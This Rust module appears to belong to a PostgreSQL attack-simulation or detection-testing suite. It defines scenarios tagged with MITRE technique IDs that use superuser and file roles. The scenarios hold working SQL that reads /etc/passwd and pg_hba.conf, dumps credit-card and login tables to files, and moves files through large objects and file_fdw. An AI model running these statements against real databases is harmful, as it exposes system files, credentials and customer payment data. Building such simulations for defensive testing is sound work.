//! Attacks that read or write the server's files through SQL.

use crate::error::Result;
use crate::scenario::{Scenario, Stage};

pub(super) fn all() -> Vec<Scenario> {
    vec![
        Scenario::attack(
            "file_read",
            "files and directories of the server are read with functions and COPY",
            file_read,
        )
        .technique(&["T1005"])
        .role("eve_files", "SUPERUSER"),
        Scenario::attack(
            "file_write",
            "query results are written to files of the server",
            file_write,
        )
        .technique(&["T1005", "T1505"])
        .role("eve_writer", "IN ROLE pg_write_server_files, app_reader"),
        Scenario::attack(
            "large_object_file",
            "a file is read into a large object and another one written from it",
            large_object,
        )
        .technique(&["T1005"])
        .role("eve_large_object", "SUPERUSER"),
        Scenario::attack(
            "file_foreign_table",
            "a file of the server is made a table with file_fdw and read",
            foreign_table,
        )
        .technique(&["T1005"])
        .role("eve_file_fdw", "SUPERUSER")
        .own_empty(),
    ]
}

fn file_read(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "SELECT pg_ls_dir('/etc')",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_read_binary_file('/etc/hostname', 0, 64)",
        "SELECT (pg_stat_file('/etc/passwd')).size",
        "CREATE TEMP TABLE lines (line text)",
        "COPY lines FROM '/etc/passwd'",
        "SELECT pg_read_file('pg_hba.conf')",
    ])
}

fn file_write(stage: &Stage<'_>) -> Result<()> {
    let mut session = stage.connect()?;
    session.run_each([
        format!(
            "COPY (SELECT * FROM sales.credit_card) TO '{}'",
            stage.scratch_file("cards.csv")
        ),
        format!(
            "COPY person.login TO '{}' WITH (FORMAT csv)",
            stage.scratch_file("logins.csv")
        ),
    ])
}

fn large_object(stage: &Stage<'_>) -> Result<()> {
    let mut session = stage.connect()?;
    session.run("SELECT lo_import('/etc/hostname', 424242)")?;
    session.run("SELECT lo_get(424242)")?;
    session.run(&format!(
        "SELECT lo_export(424242, '{}')",
        stage.scratch_file("payload.so")
    ))?;
    session.run("SELECT lo_unlink(424242)").map(drop)
}

fn foreign_table(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "CREATE EXTENSION file_fdw",
        "CREATE SERVER files FOREIGN DATA WRAPPER file_fdw",
        "CREATE FOREIGN TABLE accounts (line text) SERVER files \
         OPTIONS (filename '/etc/passwd', format 'text', delimiter E'\\x01')",
        "SELECT * FROM accounts",
    ])
}
